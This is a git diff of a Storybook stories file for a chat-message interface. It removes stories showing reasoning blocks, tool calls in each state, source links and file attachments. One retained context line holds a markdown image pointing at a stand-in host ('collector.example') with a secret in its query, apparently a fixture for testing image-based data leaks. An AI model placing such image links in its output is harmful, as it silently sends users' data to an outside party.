@@ -1,4 +1,4 @@
-import { continues, type DynamicToolPart, type Facts } from '@millrace/protocol'
+import { continues, type Facts } from '@millrace/protocol'
 import type { Meta, StoryObj } from '@storybook/react-vite'
 import type { ReactElement } from 'react'
 import { userEvent, waitFor, within } from 'storybook/test'
@@ -148,131 +148,6 @@ Bare addresses such as https://example.com become links too.
   ],
 }
 
-const thinking = [
-  {
-    type: 'reasoning' as const,
-    text: 'The user asks for a day count.\nFebruary 2028 is in a leap year: 2028 is divisible by 4 and not by 100.',
-    state: 'done' as const,
-  },
-  { type: 'text' as const, text: 'February 2028 has **29** days.' },
-]
-
-export const ReasoningClosed: Story = {
-  args: short,
-  loaders: [handLoader({ messages: [answer('a', thinking)] })],
-}
-
-export const ReasoningOpen: Story = {
-  args: { heightPx: 280 },
-  loaders: ReasoningClosed.loaders ?? [],
-  play: ({ canvasElement }) => openAll(canvasElement),
-}
-
-const input = { city: 'Bergen', days: 2 }
-
-const toolCalls: readonly DynamicToolPart[] = [
-  {
-    ...call('1', 'Read the weather'),
-    state: 'input-streaming',
-    input: { city: 'Ber' },
-  },
-  { ...call('2', 'Read the weather'), state: 'input-available', input },
-  {
-    ...call('3', 'Send a letter'),
-    state: 'approval-requested',
-    input: { to: 'Ada' },
-    approval: { id: 'approval-3' },
-  },
-  {
-    ...call('4', 'Send a letter'),
-    state: 'approval-responded',
-    input: { to: 'Ada' },
-    approval: { id: 'approval-4', approved: true },
-  },
-  {
-    ...call('5', 'Read the weather'),
-    state: 'output-available',
-    input,
-    output: { rainMm: [4.5, 12], wind: 'south-west' },
-  },
-  {
-    ...call('6', 'Read the weather'),
-    state: 'output-error',
-    input,
-    errorText: 'The weather station does not answer.',
-  },
-  {
-    ...call('7', 'Send a letter'),
-    state: 'output-denied',
-    input: { to: 'Ada' },
-    approval: { id: 'approval-7', approved: false },
-  },
-]
-
-export const ToolCallsInEveryState: Story = {
-  args: { heightPx: 440 },
-  loaders: [handLoader({ messages: [answer('a', toolCalls)] })],
-}
-
-export const ToolCallBeingWrittenOpen: Story = openCall('input-streaming', 280)
-export const ToolCallRunningOpen: Story = openCall('input-available', 280)
-export const ToolCallThatNeedsApprovalOpen: Story = openCall('approval-requested', 280)
-export const ToolCallAnsweredOpen: Story = openCall('approval-responded', 280)
-export const ToolCallDoneOpen: Story = openCall('output-available', 500)
-export const ToolCallFailedOpen: Story = openCall('output-error', 320)
-export const ToolCallDeclinedOpen: Story = openCall('output-denied', 280)
-
-export const Sources: Story = {
-  args: short,
-  loaders: [
-    handLoader({
-      messages: [
-        answer('a', [
-          { type: 'text', text: 'Bees fly up to three kilometres, rarely further.' },
-          {
-            type: 'source-url',
-            sourceId: '1',
-            url: 'https://example.com/bees',
-            title: 'How far bees fly',
-          },
-          { type: 'source-url', sourceId: '2', url: 'https://journal.example.org/foraging/2021' },
-          {
-            type: 'source-url',
-            sourceId: '3',
-            url: 'https://example.net/lime',
-            title: 'Lime trees and what they give in a dry July',
-          },
-        ]),
-      ],
-    }),
-  ],
-}
-
-export const Files: Story = {
-  args: short,
-  loaders: [
-    handLoader({
-      messages: [
-        answer('a', [
-          { type: 'text', text: 'Here is the report, and the chart from it.' },
-          {
-            type: 'file',
-            mediaType: 'application/pdf',
-            filename: 'rain-2021.pdf',
-            url: 'https://files.example.com/rain-2021.pdf',
-          },
-          {
-            type: 'file',
-            mediaType: 'image/png',
-            filename: 'chart.png',
-            url: 'https://files.example.com/chart.png',
-          },
-        ]),
-      ],
-    }),
-  ],
-}
-
 export const AutomaticReply: Story = {
   args: short,
   loaders: [
@@ -377,22 +252,6 @@ An image that would tell: ![](https://collector.example/?secret=1234)
   ],
 }
 
-function call(
-  toolCallId: string,
-  title: string,
-): Pick<DynamicToolPart, 'type' | 'toolName' | 'toolCallId' | 'title'> {
-  return { type: 'dynamic-tool', toolName: 'weather', toolCallId, title }
-}
-
-function openCall(state: DynamicToolPart['state'], heightPx: number): Story {
-  const parts = toolCalls.filter((part) => part.state === state)
-  return {
-    args: { heightPx },
-    loaders: [handLoader({ messages: [answer('a', parts)] })],
-    play: ({ canvasElement }) => openAll(canvasElement),
-  }
-}
-
 function usageOf(facts: Facts): Story {
   return {
     args: { ...short, showUsage: true, catalogue: prices },
@@ -402,8 +261,4 @@ function usageOf(facts: Facts): Story {
       }),
     ],
   }
-}
-
-function openAll(canvas: HTMLElement): void {
-  for (const details of canvas.querySelectorAll('details')) details.open = true
 }
